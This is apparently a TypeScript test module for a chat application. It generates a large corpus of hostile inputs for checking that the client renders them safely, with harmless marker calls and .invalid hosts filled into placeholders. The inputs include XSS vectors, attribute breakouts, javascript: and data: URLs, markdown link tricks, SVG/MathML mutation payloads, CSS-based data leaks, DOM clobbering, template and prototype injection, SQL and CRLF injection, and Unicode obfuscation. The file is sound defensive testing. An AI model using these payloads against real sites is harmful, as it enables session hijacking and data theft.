/**
 * Texts that would do harm in a careless client, of our own making, one family for each way in. `JS` stands for a call that the test hears,
 * `URL` for an address that nothing may ask for; both name the string, so that a finding says which one it was.
 */
const TAGS = [
  '<script>JS</script>', '<SCRIPT>JS</SCRIPT>', '<ScRiPt >JS</sCrIpT >', '<script\n>JS</script\t>', '<script/x>JS</script>', '<script type="module">JS</script>', '<script src="URL"></script>', '<script src=//URLHOST></script>',
  '<script async src=data:text/javascript,JS></script>', '<<script>JS//<</script>', '<scr<script>ipt>JS</scr</script>ipt>', '<script>JS', '</script><script>JS</script>', '<script>/*</script>*/JS</script>', '<script nonce="">JS</script>',
  '<script type="text/babel">JS</script>', '<script type="importmap">{"imports":{"a":"URL"}}</script>', '<script type="speculationrules">{"prefetch":[{"urls":["URL"]}]}</script>', '<noscript><script>JS</script></noscript>', '<script charset="utf-7">+ADw-script+AD4-JS+ADw-/script+AD4-</script>',
]
const ELEMENTS = [
  'img src=x onerror', 'img src onerror', 'image src=x onerror', 'svg onload', 'svg/onload', 'body onload', 'body onpageshow', 'input autofocus onfocus', 'select autofocus onfocus', 'textarea autofocus onfocus', 'button autofocus onfocus', 'a href=# onclick',
  'video src=x onerror', 'audio src=x onerror', 'video><source onerror', 'details open ontoggle', 'marquee onstart', 'iframe onload', 'object data=x onerror', 'embed src=x onload', 'link rel=stylesheet href=x onerror', 'style onload', 'form onsubmit', 'keygen autofocus onfocus',
  'div onmouseover', 'div onpointerenter', 'div tabindex=1 onfocus', 'div contenteditable onblur', 'div style=animation-name:x onanimationstart', 'div style=transition:all onTransitionEnd', 'dialog open onclose', 'menu id=x contextmenu=x onshow', 'meter onmouseover', 'table background=x onload', 'bgsound onpropertychange', 'isindex type=image src=1 onerror',
  'x onclick', 'custom-element onconnected', 'p onbeforeinput', 'span onwheel', 'slot onslotchange', 'track src=x onerror', 'xss onpointerrawupdate', 'h1 onauxclick', 'button popovertarget=x onbeforetoggle', 'body onhashchange', 'body onmessage', 'frameset onload', 'div onscrollend', 'body onresize',
].map((start) => `<${start}=JS>`)
const HANDLER_SHAPES = [
  '<img src=x onerror="JS">', "<img src=x onerror='JS'>", '<img src=x onerror=`JS`>', '<img/src=x/onerror=JS>', '<img src=x\tonerror\n=\rJS>', '<IMG SRC=x ONERROR=JS>', '<img src=x oNeRrOr=JS>', '<img src=x onerror=&#95;&#95;xss&#40;0&#41;>', '<img src=x on&#101;rror=JS>', '<img src="x` `<script>JS</script>"` `>', '<img src=x onerror=javascript:JS>',
  '<img src=x:x onerror=window.onerror=eval;throw"=JS">', '<img """><script>JS</script>">', '<img src=x onerror\u000c=JS>', '<img src=x onerror=JS//', '<img src=x onerror=JS', '<img src=x alt="" onerror="JS', '<img src=x onload=JS style="width:1px', '"><img src=x onerror=JS>', "'><img src=x onerror=JS>",
]
const BREAKOUTS = [
  '"><script>JS</script>', "'><script>JS</script>", '`><script>JS</script>', '" onmouseover="JS', "' onmouseover='JS", '` onmouseover=`JS', '" autofocus onfocus="JS" x="', "' autofocus onfocus='JS' x='", '"/onfocus=JS/autofocus/', '-->JS<!--', '--><script>JS</script>', '--!><script>JS</script>', '<!--><script>JS</script>', ']]><script>JS</script>', '<![CDATA[<script>JS</script>]]>',
  '</title><script>JS</script>', '</textarea><script>JS</script>', '</style><script>JS</script>', '</noscript><script>JS</script>', '</template><script>JS</script>', '</iframe><script>JS</script>', '</xmp><script>JS</script>', '</plaintext><script>JS</script>', '</p></div></article></main><script>JS</script>', '</select><script>JS</script>', '</option></select><img src=x onerror=JS>', '</button><img src=x onerror=JS>', '</time><img src=x onerror=JS>',
  '<plaintext>', '<xmp><img src=x onerror=JS></xmp>', '<listing>&lt;img src=x onerror=JS&gt;</listing>',
]
const ADDRESSES = [
  'javascript:JS', 'JaVaScRiPt:JS', ' javascript:JS', '\tjavascript:JS', 'java\tscript:JS', 'java\nscript:JS', 'java\rscript:JS', 'javascript\t:JS', 'javascript:\tJS', 'javascript://URLHOST/%0aJS', 'javascript:/*--></title></style></textarea></script><svg onload=JS>*/', 'javascript&colon;JS', 'javascript&#58;JS', 'javascript&#x3A;JS', '&#106;avascript:JS', '&#x6A;avascript:JS', '&Tab;javascript:JS', 'javascript%3AJS', '%6Aavascript:JS', 'j\u200Bavascript:JS', '\uFEFFjavascript:JS', '\u2028javascript:JS', '\u00A0javascript:JS', '\u0001javascript:JS', '\u001Fjavascript:JS', 'ｊａｖａｓｃｒｉｐｔ:JS', 'javaѕcript:JS',
  'vbscript:JS', 'livescript:JS', 'mocha:JS', 'data:text/html,<script>JS</script>', 'data:text/html;base64,PHNjcmlwdD5fX3hzcygpPC9zY3JpcHQ+', 'data:image/svg+xml,<svg onload=JS>', 'data:application/xhtml+xml,<x:script xmlns:x="http://www.w3.org/1999/xhtml">JS</x:script>', 'blob:URL/x', 'filesystem:URL/x', 'view-source:javascript:JS', 'feed:javascript:JS', 'feed:data:text/html,<script>JS</script>', 'jar:URL!/x', 'file:///etc/passwd?URLHOST', 'about:blank#JS', 'intent://URLHOST#Intent;scheme=javascript;end', 'ms-appx-web://URLHOST', 'x-javascript:JS', 'http://javascript:JS', '//URLHOST', '///URLHOST', '\\\\URLHOST', '/\\URLHOST', 'https:URLHOST', 'https://user:pass@URLHOST', 'http://[::ffff:7f00:1]/URLHOST',
]
const MARKDOWN_ADDRESSES = ADDRESSES.slice(0, 40).map((address) => `[click](${address})`)
const MARKDOWN = [
  '[a](<javascript:JS>)', '[a]( javascript:JS )', '[a](javascript:JS "title")', "[a](javascript:JS 'title')", '[a](URL "\\"onmouseover=\\"JS")', '[a](URL" onmouseover="JS)', "[a](URL' onmouseover='JS)", '[a](URL`onmouseover=JS`)', '[<img src=x onerror=JS>](URL)', '[a](URL)<img src=x onerror=JS>', '![a](javascript:JS)', '![a](URL)', '![a" onerror="JS](x)', '![](URL"onerror="JS)', '![a][1]\n\n[1]: javascript:JS', '[a][1]\n\n[1]: javascript:JS', '[a]\n\n[a]: data:text/html,<script>JS</script>', '<javascript:JS>', '<data:text/html,<script>JS</script>>',
  '<https://URLHOST" onmouseover="JS>', 'https://URLHOST"onmouseover="JS', "https://URLHOST'onmouseover='JS", 'https://URLHOST/<script>JS</script>', 'https://URLHOST/`onmouseover=JS`', 'https://URLHOST/\u202Egpj.exe', 'www.URLHOST"><script>JS</script>', 'mailto:a@b"onmouseover="JS', 'mailto:JS@x?subject=<script>JS</script>', '```html\n<script>JS</script>\n```', '```<img src=x onerror=JS>\nx\n```', '```js" onload="JS\nx\n```', '```constructor\nx\n```', '```__proto__\nx\n```', '`<script>JS</script>`', '`` ` <img src=x onerror=JS> ` ``', '**<script>JS</script>**', '_<img src=x onerror=JS>_', '~~<svg onload=JS>~~', '# <script>JS</script>', '> <script>JS</script>', '- <img src=x onerror=JS>', '1. <img src=x onerror=JS>', '|a|b|\n|-|-|\n|<img src=x onerror=JS>|[x](javascript:JS)|', '[x](#" onclick="JS)', '[x](/api/auth/logout)', '[x](?a=<script>JS</script>)',
  '[a](https://URLHOST/[b](javascript:JS))', '[[a](javascript:JS)](URL)', '[a](java[b](c)script:JS)', '*[a](javascript*:JS)', '\\<script>JS</script>', '\\[a](javascript:JS)', '&lt;script&gt;JS&lt;/script&gt;', '&#60;script&#62;JS&#60;/script&#62;', '&#x3c;script&#x3e;JS', '%3Cscript%3EJS%3C/script%3E', '\\u003cscript\\u003eJS', '\\x3cscript\\x3eJS',
]
const FOREIGN = [
  '<svg><script>JS</script></svg>', '<svg><script href="URL"/></svg>', '<svg><a xlink:href="javascript:JS"><text>x</text></a></svg>', '<svg><animate onbegin=JS attributeName=x dur=1s>', '<svg><set attributeName=href to=javascript:JS>', '<svg><foreignObject><img src=x onerror=JS></foreignObject></svg>', '<svg><use href="data:image/svg+xml,<svg id=x onload=JS>#x"/></svg>', '<svg><image href="URL"/></svg>', '<svg><style><img src="</style><img src=x onerror=JS>">', '<svg><desc><![CDATA[</desc><script>JS</script>]]></svg>', '<svg><title><noscript><p title="</noscript><img src=x onerror=JS>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=JS>', '<math><mi xlink:href="javascript:JS">x</mi></math>', '<math><annotation-xml encoding="text/html"><img src=x onerror=JS></annotation-xml></math>', '<math href="javascript:JS">x</math>', '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=JS>', '<template><img src=x onerror=JS></template>', '<template shadowrootmode=open><img src=x onerror=JS></template>', '<table><caption><svg><title><style><img title="</style></title><img src=x onerror=JS>">', '<noembed><img title="</noembed><img src=x onerror=JS>"></noembed>', '<select><template><style><!--</style><a title="--><img src=x onerror=JS>">',
  '<iframe src="javascript:JS"></iframe>', '<iframe srcdoc="<script>parent.JS</script>"></iframe>', '<iframe srcdoc="&lt;img src=x onerror=parent.JS&gt;"></iframe>', '<object data="javascript:JS"></object>', '<object data="data:text/html,<script>JS</script>"></object>', '<embed src="javascript:JS">', '<embed src="URL">', '<applet code="URL">', '<frameset><frame src="javascript:JS"></frameset>', '<portal src="URL"></portal>', '<fencedframe src="URL"></fencedframe>',
]
const PAGE = [
  '<base href="URL">', '<meta http-equiv="refresh" content="0;url=URL">', '<meta http-equiv="refresh" content="0;url=javascript:JS">', '<meta http-equiv="Content-Security-Policy" content="default-src *">', '<meta name="referrer" content="unsafe-url">', '<link rel=stylesheet href="URL">', '<link rel="prefetch" href="URL">', '<link rel="dns-prefetch" href="//URLHOST">', '<link rel="manifest" href="URL">', '<link rel=import href="URL">', '<style>@import "URL";</style>', '<style>*{background:url(URL)}</style>', '<style>input[value^=a]{background:url(URL)}</style>', '<div style="background:url(URL)">x</div>', '<div style="background-image:image-set(url(URL) 1x)">x</div>', '<div style="width:expression(JS)">x</div>', '<div style="behavior:url(URL)">x</div>', '<div style="-moz-binding:url(URL#x)">x</div>',
  '<form action="URL"><input name=password type=password></form>', '<form action="javascript:JS"><button>x</button></form>', '<button formaction="javascript:JS">x</button>', '<input type=image src=x formaction="URL">', '<a href="URL" ping="URL">x</a>', '<a target=_blank href="URL">x</a>', '<img src="URL">', '<img srcset="URL 1x">', '<picture><source srcset="URL"><img></picture>', '<video poster="URL"></video>', '<audio src="URL" autoplay></audio>', '<body background="URL">', '<table background="URL">', '<input type=image src="URL">', '<img src="URL?', "<img src='URL?", '<a href="URL?', "<textarea><a href='URL?", '<img name=body><img name=cookie>', '<form id=location><input name=href value=javascript:JS></form>', '<a id=__xss><a id=__xss name=toString>', '<img id=React name=React>', '<input id=root name=root>', '<form name=document><input name=getElementById></form>',
]
const TEMPLATES = [
  '{{constructor.constructor("JS")()}}', '{{JS}}', '${JS}', '#{JS}', '<%= JS %>', '{%raw%}JS{%endraw%}', '[[JS]]', '{{$on.constructor("JS")()}}', '<div v-html="\'<img src=x onerror=JS>\'"></div>', '<div ng-app ng-csp><p ng-click=$event.view.JS>x</p></div>', '<x dangerouslySetInnerHTML={{__html: "<img src=x onerror=JS>"}}/>', '{"$$typeof":"Symbol(react.element)","type":"script","props":{"dangerouslySetInnerHTML":{"__html":"JS"}}}', '{"__proto__":{"innerHTML":"<img src=x onerror=JS>"}}', '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', '__defineGetter__', 'then', 'valueOf', 'undefined', 'null', 'NaN', '[object Object]', '");JS;//', "');JS;//", '`);JS;//', '\\");JS;//', ';JS;', '*/JS/*', '//\nJS', '"-JS-"', "'-JS-'", '`-JS-`', '\u2028JS', '\u2029JS', '=JS', '=HYPERLINK("URL")', '+JS', '-JS', '@JS', "'; drop table messages; --", '" or 1=1 --', '$(JS)', '`JS`', '| JS', '%0d%0aSet-Cookie:x=y', '\r\nContent-Type: text/html\r\n\r\n<script>JS</script>',
]
const SHAPES = [
  '@<img src=x onerror=JS>', '@"><script>JS</script>', '@room<script>JS</script>', '@__proto__', '@constructor', '#<img src=x onerror=JS>', '#"><script>JS</script>', '#__proto__', ':<img src=x onerror=JS>:', ':"onload="JS:', ':__proto__:', ':constructor:', '/me <img src=x onerror=JS>', '/topic <script>JS</script>', '/status :x: <img src=x onerror=JS>', 'BASE/#/rooms/<script>JS</script>/at/1', 'BASE/#/rooms/javascript:JS', 'BASE/#/verify/<img src=x onerror=JS>', 'BASE/#/invite/"><script>JS</script>', 'BASE/#/settings/__proto__', 'BASE/api/auth/logout', 'BASE/../../javascript:JS', '> quoted <img src=x onerror=JS>\n\nBASE/#/rooms/x/at/1', '<time datetime="JS">x</time>', '<article data-message="JS"><script>JS</script></article>',
]
const UNICODE = [
  '＜script＞JS＜/script＞', '‹script›JS‹/script›', '<\u200Bscript>JS</script>', '<scr\u00ADipt>JS</script>', '<ſcript>JS</ſcript>', '<ıframe src=javascript:JS>', '\u202E<tpircs>JS', '\u2066<script>JS</script>\u2069', '<img src=x onerror\u200B=JS>', '<img\u3000src=x onerror=JS>', '\u{1F1E6}<script>JS</script>', 'e\u0301<script>JS</script>', '<script>\u{E0001}JS</script>', '<script\u2003>JS</script>', '¼script¾JS¼/script¾', '\u0085<script>JS</script>', '﹤script﹥JS﹤/script﹥', '‮<img src=x onerror=JS>', '<a href=\u0002javascript:JS>x</a>', '<a href="java&NewLine;script:JS">x</a>', '<a href="&#0000106avascript:JS">x</a>', '<a href="\u0019javascript:JS">x</a>',
]
/** One text for several contexts at once. */
const POLYGLOTS = [
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=JS )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=JS//>\\x3e', '\'">><marquee><img src=x onerror=JS></marquee>"></plaintext\\></|\\><plaintext/onmouseover=JS><script>JS</script>@gmail.com<isindex formaction=javascript:JS type=submit>\'-->"></script><script>JS</script>">', '"onclick=JS//<svg/onload=JS>\'-->"></textarea>', "';JS//\\';JS//\";JS//\\\";JS//--></script>\">'><script>JS</script>", '--></style></title></textarea></noscript></script><svg/onload=JS>`"\'', '[x](javascript:JS)<img src=x onerror=JS>`<script>JS</script>`{{JS}}${JS}', '<a href="javascript&colon;JS" style="background:url(URL)" id=__xss onclick=JS>[y](data:text/html,JS)</a>', '"\'`><\u0000img src=x onerror=JS>',
]

const FAMILIES = { tags: TAGS, elements: ELEMENTS, handlers: HANDLER_SHAPES, breakouts: BREAKOUTS, addresses: ADDRESSES, markdownAddresses: MARKDOWN_ADDRESSES, markdown: MARKDOWN, foreign: FOREIGN, page: PAGE, templates: TEMPLATES, shapes: SHAPES, unicode: UNICODE, polyglots: POLYGLOTS }
type Family = keyof typeof FAMILIES

/** In no text that the product itself writes: whatever holds it came from the corpus. */
export const MARKER = 'xssmark'

export interface HostileText {
  n: number
  family: Family
  text: string
}

/** The whole corpus. `base`: the chat's own address, for texts that imitate links to messages. */
export function hostileTexts(base: string): HostileText[] {
  let n = 0
  return Object.entries(FAMILIES).flatMap(([family, templates]) =>
    templates.map((template) => {
      n += 1
      return { n, family: family as Family, text: fill(template, n, base) }
    }),
  )
}

function fill(template: string, n: number, base: string): string {
  const host = `${MARKER}${n}.invalid`
  return template.replaceAll('URLHOST', host).replaceAll('URL', `https://${host}/`).replaceAll('BASE', base).replaceAll('JS', `__xss(${n})/*${MARKER}${n}*/`)
}
